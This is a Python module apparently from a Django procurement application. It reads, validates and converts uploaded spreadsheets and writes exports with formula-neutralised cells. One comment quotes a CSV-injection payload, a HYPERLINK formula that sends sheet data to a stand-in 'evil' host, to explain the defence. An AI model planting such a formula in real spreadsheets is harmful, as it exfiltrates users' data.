"""Reading uploaded spreadsheets (.xlsx, .csv in UTF-8 or GB18030/GBK) into checked rows.

A pure module: it imports pandas and Django's gettext only (for translatable messages),
never models or settings. Callers pass the limits in.

The API, in the order a caller uses it::

    columns = [
        Column("item_code", ("品种编码", "item code"), kind=ColumnKind.CODE),
        Column("quantity", ("数量", "quantity"), kind=ColumnKind.POSITIVE_INT, allow_blank=True),
    ]
    sheet = read_spreadsheet(data, filename="demand.csv", columns=columns,
                             max_bytes=settings.JICAI_MAX_UPLOAD_BYTES,
                             unique_by=("item_code",))
    sheet.frame     # DataFrame: one column per Column.key (converted), plus "row"
    sheet.errors    # [RowError(row=3, column="quantity", message="“-5” is negative.")]

* ``SpreadsheetRefused`` is raised for problems with the file as a whole (too large, empty,
  unknown type, unreadable encoding, missing columns). Nothing row-level is reported then.
* Row numbers are those the user sees in the sheet: the header is row 1, the first data
  row is row 2.
* Every value is read as text and converted here, column by column, with vectorised pandas
  operations (a million-line file is read in about a second): no per-cell Python loop for
  codes, text and whole numbers.
* ``convert_frame`` runs the same conversions on a frame built elsewhere (web forms, API
  payloads), so all three ways in share one validation.
"""

from __future__ import annotations

import csv
import enum
import io
import re
import zipfile
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass, field
from decimal import Decimal
from typing import IO, Any
from xml.etree.ElementTree import ParseError

import numpy as np
import openpyxl
import pandas as pd
from defusedxml import DefusedXmlException
from django.utils.translation import gettext as _
from openpyxl.styles import Font

from common.numbers import MAX_WHOLE_NUMBER, NumberRefused, parse_decimal, parse_whole_number
from common.xlsx_guard import XlsxLimits, XlsxRefused, inspect_xlsx

ROW = "row"
CSV_ENCODINGS = ("utf-8-sig", "gb18030")  # GB18030 is a superset of GBK and GB2312
SUFFIXES = (".csv", ".xlsx")
# Limits checked while a file is read, before it is parsed whole (common.xlsx_guard for
# .xlsx): a national collated demand file has a million lines of about ten columns and
# unpacks to a few hundred MB; nothing real comes near these.
MAX_ROWS_ANY = 2_000_000  # data rows, where the caller sets no lower limit
MAX_COLUMNS = 100
MAX_CELLS = 30_000_000
MAX_UNCOMPRESSED_BYTES = 1024 * 1024 * 1024
MAX_COMPRESSION_RATIO = 100  # spreadsheets compress 5 to 30 times; zip bombs thousands


class ColumnKind(enum.Enum):
    TEXT = "text"  # stripped text
    CODE = "code"  # stripped, upper case (item and specification codes, credit codes)
    POSITIVE_INT = "positive_int"  # a whole number > 0
    DECIMAL = "decimal"  # a Decimal > 0 (prices)
    BOOL = "bool"  # 是/否, yes/no, true/false, 1/0, y/n; blank is False


@dataclass(frozen=True)
class Column:
    """One expected column. ``headers`` are accepted header texts (Chinese and English)."""

    key: str
    headers: tuple[str, ...]
    kind: ColumnKind = ColumnKind.TEXT
    required: bool = True  # the column must be present in the sheet
    allow_blank: bool = False  # a present column may have empty cells
    max_decimal_places: int = 4

    @property
    def label(self) -> str:
        return self.headers[-1] if self.headers else self.key

    @property
    def display_header(self) -> str:
        """The header as templates and messages show it: "品种编码 (item code)"."""
        if len(self.headers) > 1:
            return f"{self.headers[0]} ({self.headers[-1]})"
        return self.headers[0] if self.headers else self.key


@dataclass(frozen=True)
class RowError:
    row: int | None
    column: str
    message: str

    def describe(self, *, lines: bool = False) -> str:
        """The error as users read it.

        "Row 3, quantity: …" names a sheet's row; with ``lines``, "Line 3, …" names the n-th
        line of a form or API request.
        """
        if self.row is None:
            return f"{self.column}: {self.message}" if self.column else self.message
        values = {"row": self.row, "column": self.column, "message": self.message}
        if lines:
            if not self.column:
                return _("Line %(row)s: %(message)s") % values
            return _("Line %(row)s, %(column)s: %(message)s") % values
        if not self.column:
            return _("Row %(row)s: %(message)s") % values
        return _("Row %(row)s, %(column)s: %(message)s") % values

    def __str__(self) -> str:
        return self.describe()


class SpreadsheetRefused(Exception):
    """The file as a whole cannot be read; ``message`` says why in the user's language."""

    def __init__(self, message: str) -> None:
        super().__init__(message)
        self.message = message


@dataclass
class Sheet:
    """Parsed rows (``frame``) and the row-numbered errors found while converting them."""

    frame: pd.DataFrame
    errors: list[RowError] = field(default_factory=list)
    headers: dict[str, str] = field(default_factory=dict)  # key -> header found in the file

    @property
    def is_valid(self) -> bool:
        return not self.errors

    def column_label(self, key: str) -> str:
        return self.headers.get(key, key)

    def valid_frame(self) -> pd.DataFrame:
        """The rows without any error."""
        if not self.errors:
            return self.frame
        bad = {e.row for e in self.errors if e.row is not None}
        return self.frame[~self.frame[ROW].isin(bad)]


def human_size(size: int) -> str:
    if size >= 1024 * 1024:
        return f"{size / (1024 * 1024):.1f} MB"
    if size >= 1024:
        return f"{size / 1024:.0f} KB"
    return f"{size} B"


def check_size(size: int, *, max_bytes: int) -> None:
    """Refuse a file by its size alone, before anything is read."""
    if size > max_bytes:
        raise SpreadsheetRefused(
            _("The file is %(size)s; the largest accepted is %(limit)s.")
            % {"size": human_size(size), "limit": human_size(max_bytes)}
        )
    if size == 0:
        raise SpreadsheetRefused(_("The file is empty."))


def _normalise_header(text: object) -> str:
    value = str(text).replace("\ufeff", "").strip().lower()
    # "数量（最小单位）", "quantity (tablets)", "* item code" all match their plain header.
    value = re.sub(r"[（(].*?[)）]", "", value)
    value = re.sub(r"[\s_*:：\-]+", "", value)
    return value


def _read_csv(data: bytes, max_rows: int) -> pd.DataFrame:
    if b"\x00" in data[:4096]:
        raise SpreadsheetRefused(
            _("The file is not a readable CSV file: save it as CSV (UTF-8 or GB18030) or .xlsx.")
        )
    text = None
    for encoding in CSV_ENCODINGS:
        try:
            text = data.decode(encoding)
            break
        except UnicodeDecodeError:
            continue
    if text is None:
        raise SpreadsheetRefused(
            _(
                "The file's text encoding is neither UTF-8 nor GB18030/GBK: save it again as "
                "“CSV UTF-8” or as .xlsx."
            )
        )
    if not text.strip():
        raise SpreadsheetRefused(_("The file is empty."))
    # The header says how wide the sheet is: a header of 100,000 columns is refused
    # before pandas builds a column for each (a data row wider than the header is a
    # parser error). Rows are read up to one past the limit, never all of them.
    header = next(csv.reader(io.StringIO(text[: text.find("\n") + 1 or len(text)])), [])
    if len(header) > MAX_COLUMNS:
        raise SpreadsheetRefused(_columns_refused(MAX_COLUMNS))
    try:
        frame = pd.read_csv(
            io.StringIO(text),
            dtype=str,
            keep_default_na=False,
            na_filter=False,
            skip_blank_lines=False,  # keep positions so row numbers match the file
            engine="c",
            nrows=max_rows + 1,
        )
    except pd.errors.EmptyDataError as exc:
        raise SpreadsheetRefused(_("The file is empty.")) from exc
    except pd.errors.ParserError as exc:
        raise SpreadsheetRefused(
            _("The CSV file could not be read: %(detail)s") % {"detail": str(exc)[:200]}
        ) from exc
    if len(frame) > max_rows:
        raise SpreadsheetRefused(_rows_refused(max_rows))
    return frame


def _rows_refused(limit: int) -> str:
    return _("The file has more than %(limit)s data rows; at most %(limit)s are accepted here.") % {
        "limit": f"{limit:,}"
    }


def _columns_refused(limit: int) -> str:
    return _(
        "A row of the file has more than %(limit)s columns; at most %(limit)s are accepted."
    ) % {"limit": f"{limit:,}"}


def _xlsx_refused(refusal: XlsxRefused) -> str:
    """The message for a workbook ``common.xlsx_guard`` refused."""
    values = refusal.values
    limit = values.get("limit")
    shown = (
        ""
        if not isinstance(limit, int)
        else human_size(limit)
        if refusal.reason == "uncompressed"
        else f"{limit:,}"
    )
    messages = {
        "dtd": _(
            "The workbook holds an XML document type declaration (DTD) in %(part)s, which "
            "spreadsheets never need; it is refused for safety. Save it again from your "
            "spreadsheet program."
        ),
        "xml": _(
            "The workbook's part %(part)s is not well-formed XML: save it again from your "
            "spreadsheet program."
        ),
        "ratio": _(
            "The workbook is compressed %(ratio)s to 1 (at most %(limit)s to 1 is accepted): "
            "it may be a zip bomb. Save it again from your spreadsheet program."
        ),
        "uncompressed": _("The workbook unpacks to more than %(limit)s; it is refused."),
        "members": _("The workbook has %(count)s parts; at most %(limit)s are accepted."),
        "cells": _("The file has more than %(limit)s cells; at most %(limit)s are accepted."),
    }
    if refusal.reason == "rows":
        return _rows_refused(int(values["limit"]))  # type: ignore[call-overload]
    if refusal.reason == "columns":
        return _columns_refused(int(values["limit"]))  # type: ignore[call-overload]
    if refusal.reason in messages:
        return messages[refusal.reason] % {**values, "limit": shown}
    return _("The file is not a readable .xlsx workbook: save it again from your spreadsheet.")


def _read_xlsx(data: bytes, max_rows: int) -> pd.DataFrame:
    limits = XlsxLimits(
        max_rows=max_rows,
        max_columns=MAX_COLUMNS,
        max_cells=MAX_CELLS,
        max_uncompressed_bytes=MAX_UNCOMPRESSED_BYTES,
        max_compression_ratio=MAX_COMPRESSION_RATIO,
    )
    try:
        inspect_xlsx(data, limits)
    except XlsxRefused as refusal:
        raise SpreadsheetRefused(_xlsx_refused(refusal)) from refusal
    try:
        frame = pd.read_excel(
            io.BytesIO(data),
            sheet_name=0,
            dtype=str,
            keep_default_na=False,
            na_filter=False,
            engine="openpyxl",
        )
    except (
        zipfile.BadZipFile,
        KeyError,
        ValueError,
        OSError,
        ParseError,
        DefusedXmlException,
    ) as exc:
        raise SpreadsheetRefused(
            _("The file is not a readable .xlsx workbook: save it again from your spreadsheet.")
        ) from exc
    # openpyxl gives whole numbers stored as floats ("12.0"); turn them back into "12".
    for name in frame.columns:
        frame[name] = frame[name].str.replace(r"^(-?\d+)\.0+$", r"\1", regex=True)
    return frame


def read_frame(data: bytes, *, filename: str, max_rows: int | None = None) -> pd.DataFrame:
    """Read every cell as text. Raises SpreadsheetRefused for unreadable files, and for
    files over the limits (rows, columns, cells; for .xlsx the unpacked size, the
    compression ratio, a DTD) as soon as reading tells, before parsing them whole."""
    suffix = "." + filename.rsplit(".", 1)[-1].lower() if "." in filename else ""
    rows = max_rows if max_rows is not None else MAX_ROWS_ANY
    if suffix == ".csv":
        frame = _read_csv(data, rows)
    elif suffix == ".xlsx":
        frame = _read_xlsx(data, rows)
    else:
        raise SpreadsheetRefused(
            _("Unknown file type “%(name)s”: upload a .xlsx or .csv file.") % {"name": filename}
        )
    # Drop columns without a header and rows that are entirely blank.
    frame = frame.loc[:, [not str(c).startswith("Unnamed:") for c in frame.columns]]
    frame = frame.astype(str)
    if len(frame.columns):
        frame = frame[(frame != "").any(axis=1)]
    return frame


def match_columns(frame: pd.DataFrame, columns: Sequence[Column]) -> dict[str, str]:
    """Map each Column.key to the header found in the file, or refuse naming what is missing."""
    found = {_normalise_header(h): str(h) for h in frame.columns}
    mapping: dict[str, str] = {}
    missing: list[str] = []
    for column in columns:
        for header in (column.key, *column.headers):
            original = found.get(_normalise_header(header))
            if original is not None:
                mapping[column.key] = original
                break
        else:
            if column.required:
                missing.append(column.display_header)
    if missing:
        raise SpreadsheetRefused(
            _(
                "This is not the expected sheet: column(s) %(missing)s not found. "
                "Columns found: %(found)s."
            )
            % {
                "missing": "; ".join(missing),
                "found": ", ".join(str(h) for h in frame.columns) or _("none"),
            }
        )
    return mapping


def _errors_where(
    mask: pd.Series, rows: pd.Series, values: pd.Series, column: str, template: str
) -> list[RowError]:
    """RowErrors for the rows where ``mask`` holds; ``template`` may use %(value)s."""
    if not mask.any():
        return []
    return [
        RowError(row=int(r), column=column, message=template % {"value": v})
        for r, v in zip(rows[mask], values[mask], strict=True)
    ]


def map_unique(values: pd.Series, function: Callable[[str], str]) -> pd.Series:
    """Apply ``function`` once per distinct value (codes repeat: 46,000 hospitals over a
    million lines), then spread the results back with one vectorised take."""
    codes, uniques = pd.factorize(values, use_na_sentinel=False)
    mapped = np.array([function(str(u)) for u in uniques], dtype=object)
    return pd.Series(mapped[codes] if len(mapped) else [], index=values.index, dtype=object)


def _convert_positive_int(
    raw: pd.Series, rows: pd.Series, label: str, allow_blank: bool
) -> tuple[pd.Series, list[RowError]]:
    """Whole numbers above zero, by ``common.numbers``' policy. Plain ASCII digits (nearly
    every cell of a large file) are converted in C; only the other cells go through
    ``parse_whole_number`` one by one."""
    errors: list[RowError] = []
    blank = raw == ""
    if not allow_blank:
        errors += _errors_where(blank, rows, raw, label, _("a value is required."))
    plain = raw.str.fullmatch(r"[0-9]{1,13}").fillna(False).astype(bool)
    result = pd.Series(pd.NA, index=raw.index, dtype="Int64")
    numbers = pd.to_numeric(raw[plain], errors="coerce").astype("int64")
    zero = numbers == 0
    errors += _errors_where(zero, rows[plain], raw[plain], label, _("must be greater than zero."))
    large = numbers > MAX_WHOLE_NUMBER
    errors += _errors_where(large, rows[plain], raw[plain], label, _("“%(value)s” is too large."))
    good = numbers[~zero & ~large]
    result[good.index] = good
    for index in raw.index[~plain & ~blank]:
        try:
            result[index] = parse_whole_number(raw[index])
        except NumberRefused as refused:
            errors.append(RowError(int(rows[index]), label, refused.message))
    return result, errors


def _convert_decimal(
    raw: pd.Series, rows: pd.Series, label: str, allow_blank: bool, places: int
) -> tuple[pd.Series, list[RowError]]:
    # Prices come in hundreds or thousands of rows, never millions: Decimal per value keeps
    # them exact (no float on the way).
    errors: list[RowError] = []
    out: list[Decimal | None] = []
    for row, value in zip(rows, raw, strict=True):
        if value.strip() == "":
            if not allow_blank:
                errors.append(RowError(int(row), label, _("a value is required.")))
            out.append(None)
            continue
        try:
            out.append(parse_decimal(value, places=places))
        except NumberRefused as refused:
            errors.append(RowError(int(row), label, refused.message))
            out.append(None)
    return pd.Series(out, index=raw.index, dtype=object), errors


_TRUE = {"1", "y", "yes", "true", "是", "√", "t"}
_FALSE = {"", "0", "n", "no", "false", "否", "×", "f"}


def _convert_bool(raw: pd.Series, rows: pd.Series, label: str) -> tuple[pd.Series, list[RowError]]:
    lowered = map_unique(raw, str.lower)
    is_true = lowered.isin(_TRUE)
    unknown = ~is_true & ~lowered.isin(_FALSE)
    errors = _errors_where(
        unknown, rows, raw, label, _("“%(value)s” is not yes or no (是/否, yes/no, 1/0).")
    )
    return is_true, errors


def _strip(text: str) -> str:
    return unneutralise_text(text.strip())


def _strip_upper(text: str) -> str:
    return _strip(text).upper()


def convert_frame(
    raw: pd.DataFrame, columns: Sequence[Column], *, labels: dict[str, str] | None = None
) -> tuple[pd.DataFrame, list[RowError]]:
    """Convert a frame of text cells (columns named by Column.key, plus ``row``).

    Returns the converted frame (same rows) and the row errors. Used by the reader and by
    callers that build rows from a web form or an API payload.
    """
    labels = labels or {}
    rows = raw[ROW]
    out = pd.DataFrame({ROW: rows.to_numpy()}, index=raw.index)
    errors: list[RowError] = []
    for column in columns:
        label = labels.get(column.key, column.label)
        if column.key not in raw.columns:
            out[column.key] = None if column.kind is not ColumnKind.BOOL else False
            continue
        function = _strip_upper if column.kind is ColumnKind.CODE else _strip
        values = map_unique(raw[column.key].fillna("").astype(str), function)
        if column.kind in (ColumnKind.TEXT, ColumnKind.CODE):
            if not column.allow_blank:
                errors += _errors_where(
                    values == "", rows, values, label, _("a value is required.")
                )
            out[column.key] = values
        elif column.kind is ColumnKind.POSITIVE_INT:
            out[column.key], errs = _convert_positive_int(values, rows, label, column.allow_blank)
            errors += errs
        elif column.kind is ColumnKind.DECIMAL:
            out[column.key], errs = _convert_decimal(
                values, rows, label, column.allow_blank, column.max_decimal_places
            )
            errors += errs
        else:
            out[column.key], errs = _convert_bool(values, rows, label)
            errors += errs
    return out, errors


def duplicate_errors(
    frame: pd.DataFrame, keys: Sequence[str], *, labels: Iterable[str] = ()
) -> list[RowError]:
    """One error per row repeating an earlier row's key (the earlier row is named)."""
    if not keys or frame.empty:
        return []
    duplicated = frame.duplicated(subset=list(keys), keep="first")
    if not duplicated.any():
        return []
    first_row = frame.groupby(list(keys), sort=False, dropna=False)[ROW].transform("first")
    names = ", ".join(x for x in labels if x) or ", ".join(keys)
    return [
        RowError(
            row=int(r),
            column="",
            message=_("duplicate of row %(first)s (same %(columns)s).")
            % {"first": int(f), "columns": names},
        )
        for r, f in zip(frame.loc[duplicated, ROW], first_row[duplicated], strict=True)
    ]


def sort_errors(errors: Iterable[RowError]) -> list[RowError]:
    return sorted(errors, key=lambda e: (e.row if e.row is not None else 0, e.column))


def read_spreadsheet(
    source: bytes | IO[bytes],
    *,
    filename: str,
    columns: Sequence[Column],
    max_bytes: int,
    unique_by: Sequence[str] = (),
    max_rows: int | None = None,
) -> Sheet:
    """Read, check and convert a spreadsheet. See the module docstring for the contract.

    ``max_rows`` bounds the imports that are checked inside a web request (a file with
    more data rows is refused as a whole before any row is checked).
    """
    if isinstance(source, bytes):
        data = source
        check_size(len(data), max_bytes=max_bytes)
    else:
        # Read at most one byte past the limit: a 50 MB upload is refused without being
        # held in memory whole.
        data = source.read(max_bytes + 1)
        check_size(len(data), max_bytes=max_bytes)
    raw = read_frame(data, filename=filename, max_rows=max_rows)
    mapping = match_columns(raw, columns)
    if raw.empty:
        raise SpreadsheetRefused(_("The file has a header row but no data rows."))
    if max_rows is not None and len(raw) > max_rows:
        raise SpreadsheetRefused(
            _("The file has %(rows)s data rows; at most %(limit)s are accepted here.")
            % {"rows": f"{len(raw):,}", "limit": f"{max_rows:,}"}
        )
    # Row numbers as the user sees them: the header is row 1. Blank rows were dropped, so
    # use the original position (index) rather than a fresh count.
    selected = pd.DataFrame({key: raw[header] for key, header in mapping.items()})
    selected[ROW] = raw.index.to_numpy() + 2
    selected = selected.reset_index(drop=True)
    labels = dict(mapping)
    frame, errors = convert_frame(selected, columns, labels=labels)
    errors += duplicate_errors(
        frame[[ROW, *unique_by]] if unique_by else frame,
        unique_by,
        labels=[labels.get(k, k) for k in unique_by],
    )
    return Sheet(frame=frame, errors=sort_errors(errors), headers=labels)


def template_frame(
    columns: Sequence[Column], rows: list[dict[str, Any]] | None = None
) -> pd.DataFrame:
    """An empty (or pre-filled) sheet whose headers are the columns' Chinese / English names."""
    frame = pd.DataFrame(rows or [], columns=[c.key for c in columns])
    return frame.rename(columns={c.key: c.display_header for c in columns})


# --- writing: every exported cell is inert ------------------------------------------------

# A cell whose text starts with one of these is taken for a formula by Excel, LibreOffice
# and WPS (OWASP, "CSV Injection"): a product named ``=HYPERLINK("http://evil/?"&A2)``
# would become a live link that sends the sheet's data away. Such text is written with a
# leading apostrophe, and in .xlsx as a string cell, never as a formula.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutralise_text(value: object) -> object:
    """The value as an exported cell holds it: text starting with a formula trigger gets
    a leading ``'``; numbers, dates and other text are left as they are."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def unneutralise_text(text: str) -> str:
    """Undo ``neutralise_text`` on text read back from a sheet (a template we wrote and the
    user filled in): ``'=1+1`` is the model ``=1+1`` again. Other text is unchanged."""
    if text.startswith("'") and text[1:2] and text[1] in FORMULA_TRIGGERS:
        return text[1:]
    return text


def neutralise_workbook(workbook: Any) -> None:
    """Make every cell of an openpyxl workbook inert (see ``FORMULA_TRIGGERS``): text that
    would be a formula is prefixed with ``'`` and typed as a string. Run on every
    workbook just before it is saved, whatever built it."""
    for worksheet in workbook.worksheets:
        for row in worksheet.iter_rows():
            for cell in row:
                value = cell.value
                if isinstance(value, str) and (
                    cell.data_type == "f" or value.startswith(FORMULA_TRIGGERS)
                ):
                    cell.value = neutralise_text(value)
                    cell.data_type = "s"


def workbook_bytes(workbook: Any) -> bytes:
    """The workbook's .xlsx bytes, every cell made inert first."""
    neutralise_workbook(workbook)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


class _InertCsvWriter:
    """``csv.writer`` whose every text field is made inert (``neutralise_text``)."""

    def __init__(self, stream: Any, **options: Any) -> None:
        self._writer = csv.writer(stream, **options)

    def writerow(self, row: Iterable[object]) -> Any:
        return self._writer.writerow([neutralise_text(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(stream: Any, **options: Any) -> _InertCsvWriter:
    """A CSV writer for exports: like ``csv.writer``, with every text field made inert."""
    return _InertCsvWriter(stream, **options)


def _plain(value: object) -> object:
    """A frame's value as openpyxl takes it: None for missing, Python numbers for numpy's."""
    if value is None or value is pd.NA or value is pd.NaT:
        return None
    if isinstance(value, float) and value != value:  # NaN
        return None
    if isinstance(value, np.generic):
        return value.item()
    return value


def write_xlsx(sheets: dict[str, pd.DataFrame]) -> bytes:
    """A workbook with one sheet per entry (sheet names up to 31 characters), every cell
    inert (``neutralise_workbook``)."""
    workbook = openpyxl.Workbook()
    workbook.remove(workbook.active)
    for name, frame in sheets.items():
        worksheet = workbook.create_sheet(name[:31])
        worksheet.append([str(c) for c in frame.columns])
        for cell in worksheet[1]:
            cell.font = Font(bold=True)
        for record in frame.itertuples(index=False, name=None):
            worksheet.append([_plain(v) for v in record])
        for i, column in enumerate(frame.columns, start=1):
            width = max([len(str(column))] + [len(str(v)) for v in frame[column].head(200)])
            worksheet.column_dimensions[worksheet.cell(1, i).column_letter].width = min(
                max(10, width * 1.3 + 2), 60
            )
    return workbook_bytes(workbook)
